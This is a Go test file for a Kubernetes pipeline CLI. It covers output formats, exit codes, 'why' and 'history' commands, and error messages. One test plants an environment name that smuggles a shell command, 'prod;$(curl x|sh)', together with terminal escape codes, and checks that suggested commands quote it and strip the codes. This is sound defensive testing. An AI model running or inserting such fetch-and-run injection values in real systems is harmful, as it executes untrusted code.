// SPDX-FileCopyrightText: The Espalier authors
// SPDX-License-Identifier: Apache-2.0

package pipeline_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	pipelines "espalier.dev/api/pipelines/v1alpha1"
	"espalier.dev/internal/cli"
	"espalier.dev/internal/cli/pipeline"
	decide "espalier.dev/internal/pipeline"
	"espalier.dev/internal/testkit"
	"espalier.dev/internal/testkit/clitest"
)

func TestMain(m *testing.M) { testkit.Main(m) }

// lines stores pipelines in all sorts of states.
func lines(t *testing.T) (*testkit.APIServer, string) {
	t.Helper()
	server := testkit.Server(t)
	namespace := server.Namespace(t)
	clitest.Line(t, server, namespace)
	hostile := testkit.Pipeline(namespace, "fresh").App("v1", "Kind\x1b[31m", "ap\"p<b>").Label("team", "new").
		Environment("d\"ev`", "dev").Environment("prod", "prod").Notification().Build()
	broken := testkit.Pipeline(namespace, "broken").Environment("dev", "dev").Environment("prod", "prod").Notification().Build()
	at := clitest.Before(5)
	broken.Status = pipelines.PipelineStatus{
		ObservedGeneration: 1, LatestRevision: "2.0.0", Run: &pipelines.Run{Number: 1, Revision: "2.0.0", StartTime: at},
		Environments: map[string]pipelines.EnvironmentStatus{
			"dev": {
				Targets: []pipelines.TargetStatus{target(broken, "dev", "2.0.0")},
				Healthy: &pipelines.EnvironmentHealth{Revision: "2.0.0", Since: at},
			},
			"prod": {
				Targets: []pipelines.TargetStatus{target(broken, "prod", "1.0.0")},
				Promotion: promotionOf(clitest.PromotionOf(broken, "prod", pipelines.PromotionStatus{
					Revision: "2.0.0", Run: 1, State: pipelines.PromotionFailed, StartTime: at, Attempts: 3,
					Error: &pipelines.PromotionError{Reason: "EventRefused", Message: "the events address refuses us", Permanent: true, Generation: 1},
				})),
			},
		},
	}
	clitest.Store(t, server, hostile, broken)
	return server, namespace
}

func promotionOf(p pipelines.PromotionStatus) *pipelines.PromotionStatus { return &p }

func target(p *pipelines.Pipeline, namespace, revision string) pipelines.TargetStatus {
	return pipelines.TargetStatus{
		ClusterAppRef: pipelines.ClusterAppReference{AppReference: p.Spec.AppRef},
		Namespace:     namespace,
		Ready:         true,
		Revision:      revision,
	}
}

func TestOutput(t *testing.T) {
	server, namespace := lines(t)
	for name, args := range map[string][]string{
		"get":                 {"get"},
		"get-wide":            {"get", "-o", "wide"},
		"get-by-label":        {"get", "-l", "team=new"},
		"get-names":           {"get", "-o", "name"},
		"get-tree":            {"get", "shop", "fresh", "-o", "tree"},
		"status":              {"status", "shop"},
		"status-wide":         {"status", "shop", "-o", "wide"},
		"status-fresh":        {"status", "fresh"},
		"status-broken":       {"status", "broken"},
		"status-yaml":         {"status", "shop", "-o", "yaml"},
		"status-tree":         {"status", "shop", "-o", "tree"},
		"status-dot":          {"status", "fresh", "-o", "dot"},
		"status-template":     {"status", "shop", "-o", `jsonpath={range .environments[*]}{.name} {.revision}{"\n"}{end}`},
		"why-name":            {"why", "shop", "-o", "name"},
		"why":                 {"why", "shop"},
		"why-fresh":           {"why", "fresh"},
		"why-broken":          {"why", "broken"},
		"why-yaml":            {"why", "shop", "-o", "yaml"},
		"history":             {"history", "shop"},
		"history-environment": {"history", "shop", "production"},
		"history-yaml":        {"history", "shop", "staging", "-o", "yaml"},
		"history-name":        {"history", "shop", "-o", "name"},
		"graph":               {"graph", "shop"},
		"graph-name":          {"graph", "shop", "-o", "name"},
		"graph-fresh":         {"graph", "fresh"},
		"graph-mermaid":       {"graph", "shop", "-o", "mermaid"},
		"graph-mermaid-fresh": {"graph", "fresh", "-o", "mermaid"},
		"graph-svg":           {"graph", "shop", "-o", "svg"},
		"graph-svg-broken":    {"graph", "broken", "-o", "svg"},
		"graph-svg-fresh":     {"graph", "fresh", "-o", "svg"},
		"graph-dot":           {"graph", "shop", "-o", "dot"},
		"graph-dot-fresh":     {"graph", "fresh", "-o", "dot"},
	} {
		t.Run(name, func(t *testing.T) {
			got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: args})
			if got.Code != cli.ExitOK || got.Stderr != "" {
				t.Errorf("exit code %d, stderr %q", got.Code, got.Stderr)
			}
			testkit.Golden(t, name, stable(got.Stdout))
		})
	}
}

var (
	// YAML quotes a key that looks like a number.
	keys   = regexp.MustCompile(`"?\b[0-9a-f]{16}\b"?`)
	moment = regexp.MustCompile(`\b\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ`)
)

// stable replaces the times of clitest.Before and those at which objects were created, which depend on when the test runs, and the keys of
// promotions, which depend on the namespace.
func stable(text string) string {
	text = keys.ReplaceAllString(text, "<key>")
	for hours := range 100 {
		at := clitest.Before(hours)
		text = strings.ReplaceAll(text, at.UTC().Format("2006-01-02T15:04:05Z"), fmt.Sprintf("<%d hours ago>", hours))
	}
	return moment.ReplaceAllString(text, "<time>")
}

func TestExitCodesTellHowAPipelineStands(t *testing.T) {
	server, namespace := lines(t)
	expect := func(name string, code int) {
		t.Helper()
		got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"status", name, "--exit-code"}})
		if got.Code != code || got.Stdout == "" || got.Stderr != "" {
			t.Errorf("%s: %+v, want code %d", name, got, code)
		}
	}
	expect("shop", cli.ExitNeedsSomebody)
	expect("broken", cli.ExitFailed)
	expect("fresh", cli.ExitTimeout)
	clitest.WriteStatus(t, server, testkit.Pipeline(namespace, "shop").Build(), func(p *pipelines.Pipeline) {
		e := p.Status.Environments["production"]
		for i := range e.Targets {
			e.Targets[i].Revision = "1.3.0"
		}
		e.Healthy.Revision = "1.3.0"
		e.WaitingApproval.Revision, e.Promotion.State = "", pipelines.PromotionComplete
		p.Status.Environments["production"], p.Status.Holds = e, nil
		p.Status.Run.CompletionTime = new(clitest.Before(1))
	})
	expect("shop", cli.ExitOK)
	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "shop"}})
	if got.Code != cli.ExitOK || !strings.HasPrefix(got.Stdout, "Pipeline/shop: revision 1.3.0 has reached all environments\n") ||
		strings.Contains(got.Stdout, "Next:") {
		t.Errorf("%+v", got)
	}
	got = clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "shop", "-o", "name"}})
	if diff := cmp.Diff(clitest.Result{Code: cli.ExitOK}, got); diff != "" {
		t.Errorf("nothing waits (-want +got):\n%s", diff)
	}
}

// The answer follows from the spec and the annotations as they are now, also before the controller has noticed.
func TestWhySeesWhatPeopleHold(t *testing.T) {
	server, namespace := lines(t)
	shop := testkit.Pipeline(namespace, "shop").Build()
	clitest.WriteStatus(t, server, shop, func(p *pipelines.Pipeline) {
		e := p.Status.Environments["production"]
		e.WaitingApproval.Revision, e.Promotion.State = "", pipelines.PromotionUnattempted
		e.Promotion.Approval = &pipelines.Approval{Decision: pipelines.DecisionApproved, By: "jo", Time: metav1.Now()}
		p.Status.Environments["production"] = e
	})
	if err := server.Client().Get(t.Context(), client.ObjectKeyFromObject(shop), shop); err != nil {
		t.Fatal(err)
	}
	name, value := decide.UserHold{Environment: "production", By: "jo", Message: "audit", Time: clitest.Now()}.Text()
	shop.Annotations = map[string]string{name: value}
	if err := server.Client().Update(t.Context(), shop); err != nil {
		t.Fatal(err)
	}
	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "shop"}})
	for _, want := range []string{"Pipeline/shop waits at environment production (Held)", "audit", "espalier hold shop production --release"} {
		if !strings.Contains(got.Stdout, want) {
			t.Errorf("the answer lacks %q:\n%s%s", want, got.Stdout, got.Stderr)
		}
	}
}

func TestWhySaysWhatIsBeingPromoted(t *testing.T) {
	server, namespace := lines(t)
	clitest.WriteStatus(t, server, testkit.Pipeline(namespace, "shop").Build(), func(p *pipelines.Pipeline) {
		e := p.Status.Environments["production"]
		e.WaitingApproval.Revision, e.Promotion.State, e.Promotion.Attempts = "", pipelines.PromotionAttempting, 2
		e.Promotion.Approval = &pipelines.Approval{Decision: pipelines.DecisionApproved, By: "jo", Time: clitest.Before(2)}
		p.Status.Environments["production"], p.Status.Holds = e, nil
	})
	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "shop"}})
	if got.Code != cli.ExitOK || got.Stderr != "" {
		t.Errorf("exit code %d, stderr %q", got.Code, got.Stderr)
	}
	testkit.Golden(t, "why-attempting", stable(got.Stdout))
}

// Anybody who may write a pipeline chooses the names of its environments. What is offered for copying runs nothing else.
func TestWhySuggestsSafeCommands(t *testing.T) {
	server := testkit.Server(t)
	namespace := server.Namespace(t)
	const name = "prod;$(curl x|sh)\x1b]0;title\x07"
	hostile := testkit.Pipeline(namespace, "hostile").Environment("dev", "dev").Environment(name, "prod").Notification().Build()
	at := clitest.Before(5)
	hostile.Status = pipelines.PipelineStatus{
		ObservedGeneration: 1, LatestRevision: "2.0.0", Run: &pipelines.Run{Number: 1, Revision: "2.0.0", StartTime: at},
		Environments: map[string]pipelines.EnvironmentStatus{
			"dev": {
				Targets: []pipelines.TargetStatus{target(hostile, "dev", "2.0.0")},
				Healthy: &pipelines.EnvironmentHealth{Revision: "2.0.0", Since: at},
			},
			name: {
				Targets: []pipelines.TargetStatus{target(hostile, "prod", "1.0.0")},
				Promotion: promotionOf(clitest.PromotionOf(hostile, name, pipelines.PromotionStatus{
					Revision: "2.0.0", Run: 1, State: pipelines.PromotionFailed, StartTime: at, Attempts: 3,
					Error: &pipelines.PromotionError{Reason: "EventRefused", Message: "no", Permanent: true, Generation: 1},
				})),
			},
		},
	}
	clitest.Store(t, server, hostile)
	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "hostile"}})
	if want := "  espalier retry hostile 'prod;$(curl x|sh)]0;title' -n <namespace> "; got.Code != cli.ExitOK || !strings.Contains(got.Stdout, want) ||
		strings.ContainsAny(got.Stdout, "\x1b\x07") {
		t.Errorf("%+v, want %q", got, want)
	}
}

func TestObjectsForPrograms(t *testing.T) {
	server, namespace := lines(t)
	var list struct {
		Kind  string
		Items []pipelines.Pipeline
	}
	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"get", "-o", "json"}})
	if err := json.Unmarshal([]byte(got.Stdout), &list); err != nil || list.Kind != "List" || len(list.Items) != 3 {
		t.Errorf("%v in %s", err, got.Stdout)
	}
	var one pipelines.Pipeline
	got = clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"get", "shop", "-o", "yaml"}})
	if err := yaml.UnmarshalStrict([]byte(got.Stdout), &one); err != nil || one.Kind != "Pipeline" || len(one.ManagedFields) > 0 {
		t.Errorf("%v in %s", err, got.Stdout)
	}
}

// The graph for programs is what the status is.
func TestTheGraphForPrograms(t *testing.T) {
	server, namespace := lines(t)
	status := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"status", "shop", "-o", "json"}})
	graph := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"graph", "shop", "-o", "json"}})
	if graph.Code != cli.ExitOK || graph.Stdout == "" || graph.Stdout != status.Stdout {
		t.Errorf("%+v, and the status is %+v", graph, status)
	}
}

func TestAllNamespaces(t *testing.T) {
	server, namespace := lines(t)
	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"get", "-A"}})
	if got.Code != cli.ExitOK || !strings.HasPrefix(got.Stdout, "NAMESPACE ") || !strings.Contains(got.Stdout, "<namespace>") {
		t.Errorf("%+v", got)
	}
	empty := server.Namespace(t)
	got = clitest.Run(t, server, empty, clitest.Call{Command: pipeline.New, Args: []string{"get"}})
	if diff := cmp.Diff(clitest.Result{Code: cli.ExitOK, Stderr: "There are no pipelines in namespace <namespace>.\n"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestHistoryShowsTimes(t *testing.T) {
	server, namespace := lines(t)
	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"history", "shop", "production", "-o", "wide"}})
	for _, want := range []string{
		"Unapproved   " + clitest.Before(19).UTC().Format(time.RFC3339) + "   -", "Complete     " + clitest.Before(70).UTC().Format(time.RFC3339) + "   4h",
	} {
		if got.Code != cli.ExitOK || !strings.Contains(got.Stdout, want) {
			t.Errorf("it lacks %q: %+v", want, got)
		}
	}
}

func TestRefusals(t *testing.T) {
	server, namespace := lines(t)
	for name, test := range map[string]struct {
		args []string
		code int
		want string
	}{
		"unknown pipeline":    {[]string{"status", "nope"}, cli.ExitNotFound, "pipeline nope does not exist"},
		"unknown in a list":   {[]string{"get", "shop", "nope"}, cli.ExitNotFound, "espalier pipeline get"},
		"unknown environment": {[]string{"history", "shop", "moon"}, cli.ExitNotFound, "pipeline shop has no environment moon"},
		"unknown format":      {[]string{"graph", "shop", "-o", "png"}, cli.ExitError, "--output takes text, tree, json, yaml, name, svg, mermaid, dot, jsonpath="},
		"a bad selector":      {[]string{"get", "-l", "a b"}, cli.ExitError, "--selector"},
		"name and all":        {[]string{"get", "shop", "-A"}, cli.ExitError, "do not go together"},
		"forbidden":           {[]string{"get", "--as=nobody"}, cli.ExitNotFound, "auth can-i"},
		"two names":           {[]string{"why", "shop", "fresh"}, cli.ExitError, "accepts 1 arg(s)"},
	} {
		t.Run(name, func(t *testing.T) {
			got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: test.args})
			if got.Code != test.code || got.Stdout != "" || !strings.Contains(got.Stderr, test.want) {
				t.Errorf("%+v", got)
			}
		})
	}
}
